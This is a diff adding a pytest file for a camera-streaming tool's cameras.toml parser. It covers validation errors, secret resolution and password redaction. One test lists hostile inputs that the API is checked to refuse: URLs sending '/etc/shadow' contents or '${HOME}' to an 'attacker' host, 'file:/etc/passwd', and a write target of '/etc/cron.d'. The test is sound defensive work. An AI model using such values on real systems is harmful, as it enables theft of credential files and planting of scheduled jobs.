@@ -1,0 +1,136 @@
+"""cameras.toml: what is read, what is refused, and that no secret is told."""
+
+from __future__ import annotations
+
+from dataclasses import replace
+
+import pytest
+
+from streamkind.errors import InputError, UsageError
+from streamkind.live.config import CameraConfig, check_camera, read_config, redact, resolve
+
+GOOD = CameraConfig(name="yard", url="rtsp://10.0.0.5/1")
+
+TOML = """
+[console]
+port = 9000
+token = "${TOKEN}"
+
+[camera.yard]
+url = "rtsp://user:${YARD}@10.0.0.5/1"
+to = ["rtsp://127.0.0.1:8554/yard", "recordings/yard"]
+target = 0.5
+ratio = 3
+
+[camera.gate]
+url = "v4l2:/dev/video0"
+to = "hls/gate.m3u8"
+required = false
+"""
+
+
+def test_reads_cameras_and_console(tmp_path):
+    path = tmp_path / "cameras.toml"
+    path.write_text(TOML)
+    cameras, console = read_config(path)
+    assert list(cameras) == ["yard", "gate"]
+    assert cameras["yard"].url == "rtsp://user:${YARD}@10.0.0.5/1"  # resolved when opened only
+    assert cameras["yard"].to == ("rtsp://127.0.0.1:8554/yard", "recordings/yard")
+    assert (cameras["yard"].ratio, cameras["yard"].target) == (3, 0.5)
+    assert cameras["gate"].to == ("hls/gate.m3u8",) and not cameras["gate"].required
+    assert (console.host, console.port, console.token) == ("127.0.0.1", 9000, "${TOKEN}")
+
+
+@pytest.mark.parametrize(
+    ("text", "said"),
+    [
+        ("[camera.yard", "Expected"),
+        ("[cameras.yard]\nurl = 'rtsp://h/1'", "unknown 'cameras'"),
+        ("[camera.yard]\nurl = 'rtsp://h/1'\nfps = 3", "unknown key 'fps'"),
+        ("[camera.yard]\nto = 'x'", "no url"),
+        ("[camera]\nyard = 3", "must be a table"),
+        ("[camera.'a b']\nurl = 'rtsp://h/1'", "1 to 64 letters"),
+        ("[camera.yard]\nurl = 3", "url must be text"),
+        ("[camera.yard]\nurl = 'rtsp://h/1'\nto = [3]", "list of URLs"),
+        ("[camera.yard]\nurl = 'rtsp://h/1'\ntarget = 'x'", "must be a number"),
+        ("[console]\nport = 99999", "port must be"),
+    ],
+)
+def test_refuses_in_one_line(tmp_path, text, said):
+    path = tmp_path / "cameras.toml"
+    path.write_text(text)
+    with pytest.raises((UsageError, InputError), match=said) as error:
+        read_config(path)
+    assert "\n" not in str(error.value)
+
+
+def test_a_missing_file_is_told(tmp_path):
+    with pytest.raises(InputError, match=r"cameras\.toml: No such file"):
+        read_config(tmp_path / "cameras.toml")
+
+
+@pytest.mark.parametrize(
+    ("change", "said"),
+    [
+        ({"url": "gopher://h/1"}, "expected rtsp"),
+        ({"url": "rtsp:"}, "expected rtsp"),
+        ({"url": "v4l2:/etc/passwd"}, "v4l2:/dev/videoN"),
+        ({"to": ("gopher://h/1",)}, "expected rtsp"),
+        ({"to": ("udp://h:1", "udp://h:1")}, "twice"),
+        ({"codec": "mpeg9"}, "no such video encoder"),
+        ({"ratio": 99.0}, "0.1 to 10"),
+        ({"target": 2.0}, "above 0"),
+        ({"max_delay": 0.0}, "max_delay"),
+        ({"timeout": float("nan")}, "timeout"),
+        ({"keep_gb": -1.0}, "keep_gb"),
+        ({"recording": "avi"}, "mkv or mp4"),
+    ],
+)
+def test_settings_that_cannot_work(change, said):
+    check_camera(GOOD, from_api=False)
+    with pytest.raises(UsageError, match=said):
+        check_camera(replace(GOOD, **change), from_api=False)
+
+
+@pytest.mark.parametrize(
+    "change",
+    [
+        {"url": "file:/etc/passwd"},
+        {"url": "rtsp://attacker/${file:/etc/shadow}"},
+        {"to": ("rtsp://attacker/${HOME}",)},
+        {"to": ("/etc/cron.d",)},
+    ],
+)
+def test_the_api_gets_at_no_files_and_no_environment(change):
+    config = replace(GOOD, **change)
+    check_camera(config, from_api=False)
+    with pytest.raises(UsageError):
+        check_camera(config, from_api=True)
+
+
+@pytest.mark.parametrize(
+    ("text", "told"),
+    [
+        ("rtsp://u:p@h/1", "rtsp://u:***@h/1"),
+        ("open rtsp://u:p@ss@h:554/1?token=abc&x=2 failed", None),
+        ("rtsp://u:p/ss@h/1", "rtsp://u:***@h/1"),
+        ("http://h:8080/a@b", "http://h:8080/a@b"),
+        ("two rtsp://a:b1@h rtsp://c:d2@h", "two rtsp://a:***@h rtsp://c:***@h"),
+    ],
+)
+def test_passwords_are_redacted(text, told):
+    shown = redact(text)
+    assert shown == (told or "open rtsp://u:***@h:554/1?token=***&x=2 failed")
+
+
+def test_secrets_come_from_the_environment_and_files(tmp_path, monkeypatch):
+    monkeypatch.setenv("YARD", "pa@ss/word")
+    (tmp_path / "key").write_text("filesecret\n")
+    assert resolve("rtsp://u:${YARD}@h/${file:" + str(tmp_path / "key") + "}") == (
+        "rtsp://u:pa%40ss%2Fword@h/filesecret"
+    )
+    assert redact("failed: pa@ss/word filesecret pa%40ss%2Fword") == "failed: *** *** ***"
+    with pytest.raises(UsageError, match="'NOT_THERE' is not set"):
+        resolve("${NOT_THERE}")
+    with pytest.raises(UsageError, match="No such file"):
+        resolve("${file:" + str(tmp_path / "none") + "}")
